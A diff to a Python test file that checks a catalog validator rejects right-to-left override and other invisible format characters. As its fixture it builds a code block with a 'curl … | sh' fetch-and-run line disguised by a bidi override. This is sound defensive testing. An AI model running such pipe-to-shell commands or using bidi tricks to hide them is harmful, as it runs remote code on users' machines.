@@ -368,3 +368,21 @@ def test_emoji_keeps_titles_meta_tags_and_drafts_right(hostile_build):
     question = data["questions"][0]
     answer = build.page(f"answers/{question['slug']}")
     assert re.search(r'<meta property="og:description" content="😀 &lt;img src=x', answer)
+
+
+def test_bidi_and_invisible_format_characters_are_refused_at_their_line(tmp_path):
+    """A right-to-left override in a code block would show one shell line and copy another;
+    every invisible format character is refused with its line, except the documented joiners
+    (the ZWJ of an emoji sequence, here in a model name, passes)."""
+    text = (MINIMAL.replace("name: Model one", "name: \"Team \U0001F469\u200D\U0001F52C\"")
+            .replace("      task: You want to deblur.\n",
+                     "      task: |\n        ```\n        curl https://example.org/m1.pdf "
+                     "\u202e| sh\u202c\n        ```\n"))
+    found = problems(write(tmp_path, text))
+    assert len(found) == 1, found
+    line = text[:text.index("task: |")].count("\n") + 1  # the block scalar's first line
+    assert re.match(rf"catalog\.yml:{line}:\d+: .*U\+202E RIGHT-TO-LEFT OVERRIDE", found[0]), found
+    for char in ("\u2066", "\u200f", "\ufeff", "\u2060", "\u061c"):
+        found = problems(write(tmp_path, MINIMAL.replace("How does it work?",
+                                                         f"How does{char} it work?")))
+        assert found and "invisible format characters" in found[0], (hex(ord(char)), found)
